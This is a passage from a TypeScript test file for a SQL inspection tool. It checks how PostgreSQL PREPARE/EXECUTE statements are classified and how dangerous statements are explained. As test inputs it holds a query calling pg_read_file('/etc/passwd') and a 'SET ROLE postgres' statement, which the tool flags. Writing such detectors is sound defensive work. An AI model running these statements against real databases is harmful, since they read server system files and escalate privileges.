    expect(statementsOf('CREATE TABLE x AS EXECUTE p')[0]).toMatchObject({ class: 'unknown', preparedName: 'p', classWithoutPrepared: 'ddl' });
    expect(statementsOf('EXPLAIN ANALYZE EXECUTE p')[0]).toMatchObject({ class: 'unknown', preparedName: 'p' });
  });

  it('withPreparedFacts substitutes what PREPARE was', () => {
    const [prepared] = statementsOf('PREPARE p AS DELETE FROM t WHERE id = $1');
    const [execute] = statementsOf('EXECUTE p(1)');
    if (prepared === undefined || execute === undefined) throw new Error('no facts');
    const resolved = withPreparedFacts(execute, prepared);
    expect(compact(resolved)).toEqual({ kind: 'execute', class: 'write', tables: ['t:w'], functions: [], flags: [] });
    expect(resolved.text).toBe('EXECUTE p(1)');

    const [readOnly] = statementsOf('PREPARE r AS SELECT * FROM t');
    const [ctas] = statementsOf('CREATE TABLE x AS EXECUTE r');
    if (readOnly === undefined || ctas === undefined) throw new Error('no facts');
    expect(withPreparedFacts(ctas, readOnly).class).toBe('ddl');
    // Statements that execute nothing are returned unchanged.
    expect(withPreparedFacts(readOnly, prepared)).toBe(readOnly);
  });
});

describe('inspectSql: explanations', () => {
  it('says why a statement is dangerous', () => {
    const [facts] = statementsOf("SELECT pg_read_file('/etc/passwd')");
    expect(facts?.notes).toContain('calls pg_read_file: reads or lists files on the database server');
    const [set] = statementsOf('SET ROLE postgres');
    expect(set?.notes?.[0]).toMatch(/role.*who runs them/);
  });
});
